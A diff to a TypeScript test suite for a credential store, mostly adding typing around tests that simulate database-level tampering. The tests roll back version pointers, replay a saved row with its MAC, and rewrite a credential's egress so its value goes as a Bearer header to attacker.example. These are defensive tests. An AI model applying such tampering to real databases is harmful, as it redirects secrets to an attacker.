@@ -7,9 +7,12 @@ import { createAgentsStore } from "../agents/agents-store.js";
 import { systemClock } from "../clock.js";
 import { openIntegrity } from "../crypto/integrity-root.js";
 import { createKeyring } from "../crypto/keyring.js";
-import type { Db } from "../store/db.js";
+import type { Db, SqlValue } from "../store/db.js";
 import { migrate } from "../store/migrations.js";
 import { valueAad } from "./credentials-store.js";
+
+/** The columns of a credentials row that point at its current value, MAC included. */
+type PointerRow = Record<"current_version" | "latest_version" | "pointer_mac" | "change_seq", SqlValue>;
 
 /**
  * Issue 18, finding 5: database write access alone must not change which credential value is
@@ -82,7 +85,9 @@ describe.each(engines)("credential pointers and grants against database access a
     );
     expect((await readAs(kw, key)).body.credentials.api).toEqual({ value: NEW, version: 2 });
 
-    const tampered = await restart((db) => db.exec("UPDATE credentials SET current_version = 1 WHERE name = 'api'"));
+    const tampered = await restart(async (db) => {
+      await db.exec("UPDATE credentials SET current_version = 1 WHERE name = 'api'");
+    });
     for (let i = 0; i < 3; i++) {
       const read = await readAs(tampered, key);
       expect(read.status).toBe(200); // the agent's other credentials stay available
@@ -113,9 +118,9 @@ describe.each(engines)("credential pointers and grants against database access a
     const key = await newAgentKey(kw, "bot");
     await put(kw, "api", OLD);
     await put(kw, "mail", NEW);
-    let snapshot: Record<string, unknown> = {};
+    let snapshot: PointerRow | undefined;
     await restart(async (db) => {
-      snapshot = (await db.query<Record<string, unknown>>("SELECT * FROM credentials WHERE name = 'api'"))[0] ?? {};
+      snapshot = (await db.query<PointerRow>("SELECT * FROM credentials WHERE name = 'api'"))[0];
     });
     await put(kw as TestServer, "api", NEW);
     await (kw as TestServer).admin("PUT", "/agents/bot/grants", {
@@ -128,7 +133,7 @@ describe.each(engines)("credential pointers and grants against database access a
       // The whole row as Keyward wrote it at version 1, MAC included: a replay, not a forgery.
       await db.exec(
         "UPDATE credentials SET current_version = $1, latest_version = $2, pointer_mac = $3, change_seq = $4 WHERE name = 'api'",
-        [snapshot.current_version, snapshot.latest_version, snapshot.pointer_mac, snapshot.change_seq],
+        [snapshot!.current_version, snapshot!.latest_version, snapshot!.pointer_mac, snapshot!.change_seq],
       );
       await db.exec(
         `UPDATE credentials SET egress = '{"base_url":"https://attacker.example","header":"Authorization","format":"Bearer {value}"}' WHERE name = 'mail'`,
